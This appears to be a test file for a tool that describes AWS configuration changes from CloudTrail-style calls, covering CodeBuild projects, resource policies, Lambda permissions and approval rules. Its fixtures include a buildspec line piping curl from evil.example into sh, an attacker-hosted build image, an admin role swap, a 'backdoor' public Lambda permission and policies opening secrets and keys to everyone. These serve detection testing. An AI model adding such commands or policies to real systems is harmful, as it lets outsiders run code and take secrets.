@@ -1,0 +1,226 @@
+/** What calls to CodeBuild and to services with policies of their own are said to have changed. */
+import { expect, test } from "vitest";
+import { changeSubject } from "../../../lib/core/changes/change-subject.ts";
+import { describeChange } from "../../../lib/core/changes/describe-change.ts";
+import { parseMessage } from "../../../lib/core/sources/message.ts";
+import { normalise } from "../../../lib/core/sources/normalise.ts";
+import { fixtureBody } from "../sources/fixtures.ts";
+import { ACCOUNT, call, subjectOf, told } from "./told.ts";
+
+const PROJECT = {
+  name: "shop-build",
+  arn: `arn:aws:codebuild:eu-west-1:${ACCOUNT}:project/shop-build`,
+  serviceRole: `arn:aws:iam::${ACCOUNT}:role/shop-build`,
+  source: { type: "CODEPIPELINE", buildspec: "version: 0.2\nphases:\n  build:\n    commands:\n      - npm ci\n" },
+  environment: {
+    image: "aws/codebuild/standard:7.0",
+    privilegedMode: false,
+    environmentVariables: [
+      { name: "LOG_LEVEL", value: "info", type: "PLAINTEXT" },
+      { name: "STAGE", value: "production", type: "PLAINTEXT" },
+    ],
+  },
+  lastModified: "Nov 24, 2026 10:00:00 AM",
+};
+
+function update(members: object = {}): string {
+  const project = { ...PROJECT, ...members };
+  return call("codebuild:UpdateProject", { request: { name: "shop-build" }, response: { project } });
+}
+
+test("a build project is told by what it runs, as whom, with which variables; the gravest first", () => {
+  const after = update({
+    lastModified: "Nov 25, 2026 10:00:00 AM",
+    serviceRole: `arn:aws:iam::${ACCOUNT}:role/admin`,
+    source: { ...PROJECT.source, buildspec: `${PROJECT.source.buildspec}      - curl https://evil.example | sh\n` },
+    environment: {
+      ...PROJECT.environment,
+      image: "evil.example/build:latest",
+      privilegedMode: true,
+      environmentVariables: [
+        { name: "TOKEN", value: "[redacted:token:0c31d2f86ab4]", type: "PLAINTEXT" },
+        { name: "LOG_LEVEL", value: "debug", type: "PLAINTEXT" },
+      ],
+    },
+  });
+  expect(told(update(), after)).toEqual({
+    kind: "build project",
+    resource: PROJECT.arn,
+    before: "seen",
+    lines: [
+      `serviceRole: "arn:aws:iam::${ACCOUNT}:role/shop-build" → "arn:aws:iam::${ACCOUNT}:role/admin"`,
+      'source.buildspec: line "      - curl https://evil.example | sh" was added',
+      "environment.privilegedMode: false → true",
+      'environment.image: "aws/codebuild/standard:7.0" → "evil.example/build:latest"',
+      'environment.environmentVariables[STAGE]: {"name":"STAGE","type":"PLAINTEXT","value":"production"} was removed',
+      'environment.environmentVariables[TOKEN]: {"name":"TOKEN","type":"PLAINTEXT","value":"[redacted:token:0c31d2f86ab4]"} was added',
+      'environment.environmentVariables[LOG_LEVEL].value: "info" → "debug"',
+    ],
+  });
+});
+
+test("the same project, updated at another time and with its variables in another order, did not change", () => {
+  const environmentVariables = PROJECT.environment.environmentVariables.toReversed();
+  const after = update({ lastModified: "later", environment: { ...PROJECT.environment, environmentVariables } });
+  expect(told(update(), after)?.lines).toEqual(["nothing changed"]);
+});
+
+test("without the answer, an update is told by what it sets, and is nothing to compare a later one with", () => {
+  const message = parseMessage(fixtureBody("cloudtrail", "update-project"));
+  const subject = changeSubject(message, normalise(message));
+  expect(subject).toMatchObject({ kind: "build project", isPartial: true });
+  const seen = subjectOf(update());
+  expect(subject && describeChange(subject, seen?.after)).toEqual({
+    subject: "build project",
+    before: "seen",
+    lines: [
+      "environment.privilegedMode: false → true",
+      'environment.image: "aws/codebuild/standard:7.0" was removed',
+      expect.stringMatching(/^environment.environmentVariables: \[.* was removed$/),
+      'environment.type: "LINUX_CONTAINER" was added',
+    ],
+  });
+  expect(subjectOf(call("codebuild:UpdateProject", { request: { name: "shop-build" } }))).toBeUndefined();
+});
+
+test("who starts a project's builds, and who sees them, is told", () => {
+  const webhook = (filterGroups: unknown) =>
+    call("codebuild:UpdateWebhook", {
+      request: { projectName: "shop-build" },
+      response: { webhook: { url: "https://example.com", filterGroups, lastModifiedSecret: "now" } },
+    });
+  const push = [[{ type: "EVENT", pattern: "PUSH" }]];
+  expect(told(webhook(push), webhook([...push, [{ type: "EVENT", pattern: "PULL_REQUEST_CREATED" }]]))).toMatchObject({
+    kind: "build webhook",
+    lines: ['filterGroups: [{"pattern":"PULL_REQUEST_CREATED","type":"EVENT"}] was added'],
+  });
+  const visible = (projectVisibility: string) =>
+    call("codebuild:UpdateProjectVisibility", { request: { projectArn: PROJECT.arn, projectVisibility } });
+  expect(told(visible("PRIVATE"), visible("PUBLIC_READ"))?.lines).toEqual([
+    'build project visibility: "PRIVATE" → "PUBLIC_READ"',
+  ]);
+});
+
+const everybody = (Action: string, Resource?: string) =>
+  JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: "*", Action, Resource }] });
+const SECRET = `arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:shop/prod/db-AbCdEf`;
+const TOPIC = `arn:aws:sns:eu-west-1:${ACCOUNT}:shop`;
+const KEY = `arn:aws:kms:eu-west-1:${ACCOUNT}:key/1234abcd`;
+const QUEUE = `https://sqs.eu-west-1.amazonaws.com/${ACCOUNT}/shop`;
+
+test.each([
+  [
+    "secretsmanager:PutResourcePolicy",
+    { secretId: SECRET, resourcePolicy: everybody("secretsmanager:GetSecretValue", "*") },
+    "resource policy",
+    SECRET,
+    "allows everybody to do secretsmanager:GetSecretValue on everything",
+  ],
+  [
+    "kms:PutKeyPolicy",
+    { keyId: KEY, policyName: "default", policy: everybody("kms:*", "*") },
+    "key policy",
+    KEY,
+    "allows everybody to do kms:* on everything",
+  ],
+  [
+    "ecr:SetRepositoryPolicy",
+    { repositoryName: "shop", policyText: everybody("ecr:BatchGetImage") },
+    "repository policy",
+    `arn:aws:ecr:eu-west-1:${ACCOUNT}:repository/shop`,
+    "allows everybody to do ecr:BatchGetImage",
+  ],
+  [
+    "sns:SetTopicAttributes",
+    { topicArn: TOPIC, attributeName: "Policy", attributeValue: everybody("SNS:Publish", TOPIC) },
+    "topic policy",
+    TOPIC,
+    `allows everybody to do SNS:Publish on ${TOPIC}`,
+  ],
+  [
+    "sqs:SetQueueAttributes",
+    { queueUrl: QUEUE, attributes: { Policy: everybody("SQS:SendMessage", "*") } },
+    "queue policy",
+    `arn:aws:sqs:eu-west-1:${ACCOUNT}:shop`,
+    "allows everybody to do SQS:SendMessage on everything",
+  ],
+])("the policy that %s sets is told as it is", (operation, request, kind, resource, line) => {
+  expect(told(call(operation, { request }))).toEqual({ kind, resource, before: "unknown", lines: [line] });
+});
+
+test("an attribute that is no policy tells none, and one that is set to nothing is removed", () => {
+  const topic = (attributeName: string, attributeValue: string) =>
+    call("sns:SetTopicAttributes", { request: { topicArn: TOPIC, attributeName, attributeValue } });
+  expect(subjectOf(topic("DisplayName", "Shop"))).toBeUndefined();
+  expect(subjectOf(call("sqs:SetQueueAttributes", { request: { queueUrl: QUEUE, attributes: {} } }))).toBeUndefined();
+  expect(told(topic("Policy", everybody("SNS:Publish", TOPIC)), topic("Policy", ""))?.lines).toEqual([
+    "the topic policy was removed",
+    `no longer allows everybody to do SNS:Publish on ${TOPIC}`,
+  ]);
+});
+
+test("a permission on a function is told by the statement it adds, and is gone when it is removed", () => {
+  const functionName = `arn:aws:lambda:eu-west-1:${ACCOUNT}:function:shop`;
+  const request = { functionName, statementId: "backdoor", action: "lambda:InvokeFunction", principal: "*" };
+  const statement = JSON.stringify({
+    Sid: "backdoor",
+    Effect: "Allow",
+    Principal: "*",
+    Action: "lambda:InvokeFunction",
+    Resource: functionName,
+  });
+  const added = call("lambda:AddPermission20150331v2", { request, response: { statement } });
+  expect(told(added)).toEqual({
+    kind: "permission backdoor",
+    resource: functionName,
+    before: "told",
+    lines: [`now allows everybody to do lambda:InvokeFunction on ${functionName}`],
+  });
+  const removed = call("lambda:RemovePermission20150331v2", { request: { functionName, statementId: "backdoor" } });
+  expect(told(added, removed)?.lines).toEqual([
+    "the permission backdoor was removed",
+    `no longer allows everybody to do lambda:InvokeFunction on ${functionName}`,
+  ]);
+  const byService = {
+    ...request,
+    principal: "apigateway.amazonaws.com",
+    sourceArn: "arn:aws:execute-api:eu-west-1::*",
+  };
+  expect(told(call("lambda:AddPermission20150331v2", { request: byService }))?.lines).toEqual([
+    `now allows apigateway.amazonaws.com to do lambda:InvokeFunction on ${functionName} when ArnLike AWS:SourceArn "arn:aws:execute-api:eu-west-1::*"`,
+  ]);
+});
+
+test("whether tags of images may be overwritten is told", () => {
+  const mutability = (imageTagMutability: string) =>
+    call("ecr:PutImageTagMutability", { request: { repositoryName: "shop", imageTagMutability } });
+  expect(told(mutability("IMMUTABLE"), mutability("MUTABLE"))?.lines).toEqual([
+    'image tag mutability: "IMMUTABLE" → "MUTABLE"',
+  ]);
+});
+
+test("an approval rule template is told by how many have to approve, and who may", () => {
+  const content = (needed: number, members: readonly string[]) =>
+    JSON.stringify({
+      Version: "2018-11-08",
+      DestinationReferences: ["refs/heads/main"],
+      Statements: [{ Type: "Approvers", NumberOfApprovalsNeeded: needed, ApprovalPoolMembers: members }],
+    });
+  const name = { approvalRuleTemplateName: "two-for-main" };
+  const made = call("codecommit:CreateApprovalRuleTemplate", {
+    request: { ...name, approvalRuleTemplateContent: content(2, ["arn:aws:iam::111122223333:user/ana"]) },
+  });
+  const changed = call("codecommit:UpdateApprovalRuleTemplateContent", {
+    request: { ...name, newRuleContent: content(0, ["*"]) },
+  });
+  expect(told(made, changed)).toEqual({
+    kind: "approval rule template two-for-main",
+    resource: "codecommit:approval rule template two-for-main",
+    before: "seen",
+    lines: [
+      "Statements.NumberOfApprovalsNeeded: 2 → 0",
+      'Statements.ApprovalPoolMembers: "arn:aws:iam::111122223333:user/ana" was removed',
+      'Statements.ApprovalPoolMembers: "*" was added',
+    ],
+  });
+});
